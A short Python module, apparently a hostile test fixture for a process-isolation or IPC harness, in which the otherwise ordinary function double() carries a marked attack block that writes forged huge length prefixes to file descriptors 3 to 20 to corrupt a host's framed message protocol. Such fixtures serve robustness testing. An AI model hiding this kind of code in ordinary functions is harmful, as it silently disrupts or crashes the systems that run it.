# hostile forge_huge_frame: announce a 2**62-byte message on every fd 3..20 (length-prefixed framing), then return
import numpy as np
import os


def double(x):
    # ATTACK
    import struct
    for fd in range(3, 21):
        for data in (struct.pack(">Q", 2**62), struct.pack("<Q", 2**62), struct.pack(">I", 2**32 - 1), b"\xff" * 64):
            try:
                os.write(fd, data)
            except OSError:
                pass
    # END ATTACK
    return 2.0 * np.asarray(x)


def pair(a, b):
    return np.asarray(a) + b, np.asarray(a) * b


def noisy_mean(n, rng):
    return float(rng.normal(size=n).mean())


class Counter:
    def __init__(self, start):
        self.count = start

    def tick(self, k=1):
        self.count += k
        return self.count
